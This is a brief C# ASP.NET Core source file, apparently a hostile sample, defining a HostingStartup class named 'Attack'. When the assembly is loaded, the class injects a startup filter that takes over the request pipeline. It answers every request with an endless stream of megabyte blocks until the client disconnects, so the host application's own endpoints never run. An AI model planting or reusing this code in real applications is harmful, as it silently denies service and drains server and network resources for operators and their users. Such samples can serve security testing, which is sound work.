using Microsoft.AspNetCore.Hosting;

[assembly: HostingStartup(typeof(Attack))]

// Whatever is asked, the answer goes on until nobody listens any more.
internal sealed class Attack : IHostingStartup, IStartupFilter
{
    public void Configure(IWebHostBuilder builder) => builder.ConfigureServices(services => services.AddSingleton<IStartupFilter, Attack>());

    public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
    {
        app.Run(async context =>
        {
            var block = new byte[1 << 20];
            while (!context.RequestAborted.IsCancellationRequested) await context.Response.Body.WriteAsync(block, context.RequestAborted);
        });
        next(app);
    };
}
